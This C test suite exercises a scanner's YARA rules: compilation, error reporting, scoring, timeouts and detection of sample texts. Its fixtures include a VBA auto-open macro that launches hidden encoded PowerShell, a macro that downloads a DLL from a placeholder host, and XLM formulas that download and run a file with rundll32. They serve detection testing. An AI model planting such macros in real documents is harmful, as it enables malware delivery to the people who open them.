/*
 * check_yara.c - rule compilation (ours in rules/, broken ones with
 * file:line), scores from meta, scanning raw objects and texts.
 */
#include "config.h"

#include <glib/gstdio.h>

#include "core/engine.h"
#include "core/scan.h"
#include "detect/yarascan.h"
#include "testutil.h"

/* A config text naming the source tree's rules/ directory. */
static char *
rules_conf(const char *extra)
{
	char *dir = tu_srcpath("rules");
	char *c = g_strdup_printf("yara = { rules_dir = \"%s\"; %s };", dir,
	    extra ? extra : "");

	g_free(dir);
	return c;
}

/* Rules declared in the rules directory's .yar files, counted from the files themselves. */
static unsigned
count_rules(void)
{
	char *dir = tu_srcpath("rules");
	GDir *d = g_dir_open(dir, 0, NULL);
	const char *n;
	unsigned count = 0;

	ck_assert_ptr_nonnull(d);
	while ((n = g_dir_read_name(d)) != NULL) {
		char *p, *text, **lines;

		if (!g_str_has_suffix(n, ".yar"))
			continue;
		p = g_build_filename(dir, n, NULL);
		ck_assert(g_file_get_contents(p, &text, NULL, NULL));
		lines = g_strsplit(text, "\n", -1);
		for (char **l = lines; *l; l++)
			if (g_str_has_prefix(*l, "rule "))
				count++;
		g_strfreev(lines);
		g_free(text);
		g_free(p);
	}
	g_dir_close(d);
	g_free(dir);
	return count;
}

START_TEST(our_rules_compile)
{
	char *conf = rules_conf(NULL);
	struct emf_engine *e = tu_engine(conf);
	unsigned want = count_rules();

	ck_assert_uint_gt(want, 0);
	ck_assert_uint_eq(emf_yara_rule_count(e->mod[EMF_MOD_YARA]), want);
	emf_engine_unref(e);
	g_free(conf);
}
END_TEST

/* Make a directory with one rule file; returns the directory. */
static char *
rule_dir(const char *name, const char *text)
{
	char *dir = g_dir_make_tmp("emf-yara-XXXXXX", NULL);
	char *p = g_build_filename(dir, name, NULL);

	ck_assert(g_file_set_contents(p, text, -1, NULL));
	g_free(p);
	return dir;
}

static void
rm_dir(char *dir)
{
	GDir *d = g_dir_open(dir, 0, NULL);
	const char *n;

	while ((n = g_dir_read_name(d)) != NULL) {
		char *p = g_build_filename(dir, n, NULL);

		g_unlink(p);
		g_free(p);
	}
	g_dir_close(d);
	g_rmdir(dir);
	g_free(dir);
}

static char *
engine_error(const char *conf_text)
{
	char *path = tu_tempfile(conf_text);
	struct emf_cfg *cfg;
	struct emf_engine *e = NULL;
	struct emf_error err;
	char *msg;

	ck_assert_int_eq(emf_cfg_load(path, &cfg, &err), EMF_OK);
	if (emf_engine_new(cfg, &e, &err) == EMF_OK) {
		emf_engine_unref(e);
		msg = NULL;
	} else {
		msg = g_strdup(err.msg);
	}
	unlink(path);
	g_free(path);
	return msg;
}

START_TEST(broken_rule_reports_file_line)
{
	char *dir = rule_dir("bad.yar", "rule ok { condition: true }\n\n"
	    "rule broken { strings: $a = \"x\" condition: $b }\n");
	char *conf = g_strdup_printf("yara = { extra_dirs = [ \"%s\" ]; };",
	    dir);
	char *msg = engine_error(conf);
	char *want = g_strdup_printf("%s/bad.yar:3: ", dir);

	ck_assert_ptr_nonnull(msg);
	ck_assert_msg(g_str_has_prefix(msg, want), "got \"%s\", want \"%s...\"",
	    msg, want);
	g_free(want);
	g_free(msg);
	g_free(conf);
	rm_dir(dir);
}
END_TEST

START_TEST(missing_configured_dir_is_an_error)
{
	char *msg = engine_error("yara = { rules_dir = \"/nonexistent/rules\"; };");

	ck_assert_ptr_nonnull(msg);
	ck_assert_msg(strstr(msg, "/nonexistent/rules") != NULL, "got %s", msg);
	g_free(msg);
}
END_TEST

START_TEST(disabled_yara_has_no_rules)
{
	char *conf = rules_conf("enabled = false;");
	struct emf_engine *e = tu_engine(conf);

	ck_assert_ptr_null(e->mod[EMF_MOD_YARA]);
	emf_engine_unref(e);
	g_free(conf);
}
END_TEST

/* Meta score as integer, as string, absent (default), and overridden. */
START_TEST(scores_from_meta_and_config)
{
	char *dir = rule_dir("s.yar",
	    "rule int_score { meta: score = 7 description = \"seven\" "
	    "strings: $a = \"MARK-INT\" condition: $a }\n"
	    "rule str_score { meta: score = \"2.5\" strings: $a = \"MARK-STR\" "
	    "condition: $a }\n"
	    "rule no_score { strings: $a = \"MARK-NONE\" condition: $a }\n"
	    "rule over { meta: score = 9 strings: $a = \"MARK-OVER\" "
	    "condition: $a }\n");
	char *conf = g_strdup_printf("yara = { rules_dir = \"%s\"; "
	    "default_score = 1.25; };\nscores = { YARA_OVER = 0.5; };", dir);
	struct emf_engine *e = tu_engine(conf);
	const char *data = "xx MARK-INT MARK-STR MARK-NONE MARK-OVER xx";
	struct emf_report *r;
	static const struct { const char *name; double score; } want[] = {
		{ "YARA_INT_SCORE", 7 }, { "YARA_STR_SCORE", 2.5 },
		{ "YARA_NO_SCORE", 1.25 }, { "YARA_OVER", 0.5 },
	};

	ck_assert_int_eq(emf_scan_file(e, data, strlen(data), "blob.bin", NULL,
	    &r), EMF_OK);
	for (size_t w = 0; w < G_N_ELEMENTS(want); w++) {
		bool found = false;

		for (size_t i = 0; i < emf_report_nsymbols(r); i++) {
			if (strcmp(emf_report_symbol_name(r, i), want[w].name))
				continue;
			found = true;
			ck_assert_msg(emf_report_symbol_score(r, i) ==
			    want[w].score, "%s: got %g, want %g", want[w].name,
			    emf_report_symbol_score(r, i), want[w].score);
		}
		ck_assert_msg(found, "got %s, want %s",
		    emf_report_symbols_summary(r), want[w].name);
	}
	emf_report_free(r);
	emf_engine_unref(e);
	g_free(conf);
	rm_dir(dir);
}
END_TEST

/* Our lure rule on UTF-16LE document bytes, with the object path. */
START_TEST(raw_object_utf16_lure)
{
	char *conf = rules_conf(NULL);
	struct emf_engine *e = tu_engine(conf);
	gsize n;
	char *wide = g_convert("保護されています。「コンテンツの有効化」をクリック",
	    -1, "UTF-16LE", "UTF-8", NULL, &n, NULL);
	struct emf_report *r;
	char *json;

	ck_assert_int_eq(emf_scan_file(e, wide, n, "請求書.doc", NULL, &r),
	    EMF_OK);
	ck_assert_msg(emf_report_has_symbol(r, "YARA_EMF_LURE_ENABLE_CONTENT_WIDE"),
	    "got %s", emf_report_symbols_summary(r));
	json = emf_report_json(r, false);
	ck_assert_ptr_nonnull(strstr(json, "\"yara\":[\"EMF_LURE_ENABLE_CONTENT_WIDE\"]"));
	ck_assert_ptr_nonnull(strstr(json, "1/請求書.doc"));
	emf_free(json);
	emf_report_free(r);
	g_free(wide);
	emf_engine_unref(e);
	g_free(conf);
}
END_TEST

static const struct {
	enum emf_text_kind kind;
	const char *text;
	const char *want;	/* symbol, or NULL for none of ours */
} texts[] = {
	{ EMF_TEXT_MACRO, "Attribute VB_Name = \"Module1\"\nSub AutoOpen()\n"
	  "  Shell \"powershell -w hidden -enc "
	  "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\"\n"
	  "End Sub\n", "YARA_EMF_VBA_POWERSHELL_ENCODED" },
	{ EMF_TEXT_MACRO, "Private Sub Document_Open()\n"
	  "URLDownloadToFile 0, \"http://x.example/a.dll\", \"C:\\a.dll\", 0, 0\n"
	  "End Sub\n", "YARA_EMF_VBA_DOWNLOADER" },
	{ EMF_TEXT_MACRO, "Sub Workbook_Open()\n Set s = CreateObject(\"WScript.Shell\")\n"
	  "End Sub\n", "YARA_EMF_VBA_AUTOEXEC_EXEC" },
	{ EMF_TEXT_MACRO, "Sub Button1_Click()\n  Range(\"A1\").Value = 1\nEnd Sub\n",
	  NULL },
	{ EMF_TEXT_DOCUMENT, "=REGISTER(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\")\n"
	  "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://x/\",\"c:\\a\",0,0)\n"
	  "=EXEC(\"rundll32 c:\\a,DllRegisterServer\")\n=HALT()\n",
	  "YARA_EMF_XLM_EXEC_FORMULAS" },
	{ EMF_TEXT_BODY, "添付ファイルのパスワードは下記の通りです。\nパスワード：Xk29aQ\n",
	  "YARA_EMF_PASSWORD_ZIP_TEXT" },
	{ EMF_TEXT_BODY, "Your mailing list password: hunter2\n", NULL },
};

START_TEST(text_rules)
{
	char *conf = rules_conf(NULL);
	struct emf_engine *e = tu_engine(conf);
	struct emf_scan *s = emf_scan_new(e, NULL);
	struct emf_object *o = emf_object_child(s, NULL, "x", NULL, NULL, 0);

	emf_text_add(s, texts[_i].kind, o, texts[_i].text,
	    strlen(texts[_i].text));
	emf_yara_texts(s);
	if (texts[_i].want != NULL) {
		ck_assert_msg(emf_scan_has_symbol(s, texts[_i].want),
		    "text %d: want %s", _i, texts[_i].want);
		ck_assert_ptr_nonnull(o->yara);
	} else {
		for (guint i = 0; i < s->symbols->len; i++) {
			const struct emf_symbol *sym =
			    g_ptr_array_index(s->symbols, i);

			ck_assert_msg(!g_str_has_prefix(sym->name, "YARA_EMF_"),
			    "text %d: got %s, want none", _i, sym->name);
		}
	}
	emf_scan_free(s);
	emf_engine_unref(e);
	g_free(conf);
}
END_TEST

/* libyara takes a timeout of 0 as none: never 0 to it, never rounded up. */
START_TEST(yara_timeout_rounding)
{
	ck_assert_int_eq(emf_yara_timeout_s(-5), 0);
	ck_assert_int_eq(emf_yara_timeout_s(0), 0);
	ck_assert_int_eq(emf_yara_timeout_s(1), 1);
	ck_assert_int_eq(emf_yara_timeout_s(999), 1);
	ck_assert_int_eq(emf_yara_timeout_s(1000), 1);
	ck_assert_int_eq(emf_yara_timeout_s(1999), 1);
	ck_assert_int_eq(emf_yara_timeout_s(2500), 2);
}
END_TEST

/* Under a millisecond before the deadline: YARA is not run (it used to
 * run with no timeout at all), and the report says why. */
START_TEST(yara_skipped_at_deadline)
{
	char *conf = rules_conf(NULL);
	struct emf_engine *e = tu_engine(conf);
	struct emf_scan *s = emf_scan_new(e, NULL);
	struct emf_object *o = emf_object_child(s, NULL, "x", NULL, NULL, 0);
	const char *text = texts[0].text;

	emf_text_add(s, EMF_TEXT_MACRO, o, text, strlen(text));
	s->deadline_us = g_get_monotonic_time() + 999;
	emf_yara_texts(s);
	ck_assert_msg(!emf_scan_has_symbol(s, texts[0].want),
	    "YARA ran with under 1 ms left");
	ck_assert_uint_gt(s->limits_hit->len, 0);
	emf_scan_free(s);
	emf_engine_unref(e);
	g_free(conf);
}
END_TEST

int
main(void)
{
	Suite *s = suite_create("yara");
	TCase *tc = tcase_create("yara");

	tcase_add_test(tc, our_rules_compile);
	tcase_add_test(tc, broken_rule_reports_file_line);
	tcase_add_test(tc, missing_configured_dir_is_an_error);
	tcase_add_test(tc, disabled_yara_has_no_rules);
	tcase_add_test(tc, scores_from_meta_and_config);
	tcase_add_test(tc, raw_object_utf16_lure);
	tcase_add_test(tc, yara_timeout_rounding);
	tcase_add_test(tc, yara_skipped_at_deadline);
	tcase_add_loop_test(tc, text_rules, 0, G_N_ELEMENTS(texts));
	suite_add_tcase(s, tc);
	return tu_run(s);
}
